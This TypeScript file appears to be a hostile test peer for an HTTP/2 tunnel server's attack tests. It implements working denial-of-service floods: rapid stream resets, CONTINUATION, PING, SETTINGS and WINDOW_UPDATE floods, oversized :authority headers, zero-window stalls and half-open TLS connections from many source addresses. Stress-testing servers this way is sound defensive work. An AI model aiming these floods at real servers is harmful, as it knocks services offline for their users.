/** A hostile peer of the attack tests: told by its parent what to do, does it until told to stop, and says how that went. */
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { connectTo, FRAME, frame, headerBlock, headers, RawHttp2, startTls } from "../raw-http2.ts";
import type { Attack, Attacked, AttackKind } from "./messages.ts";

const TUNNEL_PORT = 15_008;
/** Between two tunnels that the server has ended. */
const AGAIN_MS = 200;
const STREAMS = 100;
const ZERO_WINDOW = frame([FRAME.settings, 0, 0], Buffer.of(0, 4, 0, 0, 0, 0));
const sockets = new Set<Socket>();
/** Of the attack that goes on; an earlier one ends by it. */
let current: Attack | undefined;
let begun = 0;
let ended = 0;

process.on("message", (message: Attack | "stop") => {
  if (message === "stop") stop();
  else void run(message);
});
process.on("disconnect", () => process.exit());

async function run(attack: Attack): Promise<void> {
  current = attack;
  [begun, ended] = [0, 0];
  if (attack.kind === "connections half open") {
    for (let i = 0; i < attack.connections && current === attack; i += 1) await halfOpen(attack, i);
    process.send?.("under way");
    return;
  }
  while (current === attack) {
    const socket = connect(TUNNEL_PORT, attack.host);
    follow(socket);
    const tunnel = new RawHttp2(startTls(socket, attack.credentials).setMaxListeners(0)).greet();
    await Promise.race([tunnel.greeted(), tunnel.closed()]);
    begun += 1;
    if (begun === 1) process.send?.("under way");
    await assault(tunnel, attack);
    ended += 1;
    await pause(AGAIN_MS);
  }
}

function follow(socket: Socket): void {
  sockets.add(socket);
  socket.on("error", () => undefined);
  socket.on("close", () => sockets.delete(socket));
}

/** The first octets of a handshake, from one of many addresses, and then nothing. */
async function halfOpen({ host }: Attack, i: number): Promise<void> {
  begun += 1;
  const localAddress = `fd77::a:${((i % 64) + 1).toString(16)}`;
  const socket = connect({ port: TUNNEL_PORT, host, localAddress });
  follow(socket);
  socket.on("close", () => {
    ended += 1;
  });
  await Promise.race([
    once(socket, "connect"),
    new Promise((resolve) => socket.once("close", resolve)),
  ]);
  if (!socket.destroyed) socket.write(Buffer.of(0x16, 3, 1));
}

/** Resolves once the server has ended it, or never. */
async function assault(tunnel: RawHttp2, { kind, host, appPort }: Attack): Promise<void> {
  const block = connectTo(host.includes(":") ? `[${host}]:${appPort}` : `${host}:${appPort}`);
  const make = FLOODS[kind];
  if (make) await tunnel.flood(Number.MAX_SAFE_INTEGER, (i) => make(i, block));
  else await holdOpen(tunnel, block);
  await tunnel.closed();
}

/** Asks for a hundred echoes and takes none. */
async function holdOpen(tunnel: RawHttp2, block: Buffer): Promise<void> {
  tunnel.send(ZERO_WINDOW);
  const part = Buffer.alloc(16_000, 0x61);
  const count = STREAMS * 4;
  await tunnel.flood(STREAMS + count, (i) =>
    i < STREAMS
      ? headers(2 * i + 1, block)
      : frame([FRAME.data, 0, 2 * ((i - STREAMS) % STREAMS) + 1], part),
  );
}

type Make = (i: number, block: Buffer) => Buffer;

const FLOODS: Partial<Record<AttackKind, Make>> = {
  "rapid resets": (i, block) => {
    const id = 2 * i + 1;
    return Buffer.concat([
      headers(id, block),
      frame([FRAME.resetStream, 0, id], Buffer.of(0, 0, 0, 8)),
    ]);
  },
  PING: () => frame([FRAME.ping, 0, 0], Buffer.alloc(8)),
  "windows by SETTINGS": (i, block) =>
    i < STREAMS
      ? headers(2 * i + 1, block)
      : frame([FRAME.settings, 0, 0], Buffer.of(0, 4, 0, 0, 255, i & 255)),
  CONTINUATION: (i, block) =>
    i === 0
      ? frame([FRAME.headers, 0, 1], block)
      : frame([FRAME.continuation, 0, 1], headerBlock([[`x${i}`, "v"]])),
  WINDOW_UPDATE: () => frame([FRAME.windowUpdate, 0, 0], Buffer.of(0, 0, 0, 1)),
  "empty DATA": (i, block) => (i === 0 ? headers(1, block) : frame([FRAME.data, 0, 1])),
  "authorities of 64 KB": (i) =>
    headers(
      2 * i + 1,
      headerBlock([
        [":method", "CONNECT"],
        [":authority", "1".repeat(65_536)],
      ]),
    ),
  // As many as the window of a stream that is echoed to nobody takes.
  "single octets": (i, block) =>
    i % 60_000 === 0
      ? headers(2 * Math.floor(i / 60_000) + 1, block)
      : frame([FRAME.data, 0, 2 * Math.floor(i / 60_000) + 1], Buffer.of(0x61)),
};

function stop(): void {
  current = undefined;
  const told: Attacked = { begun, ended };
  for (const socket of sockets) socket.destroy();
  process.send?.(told);
}
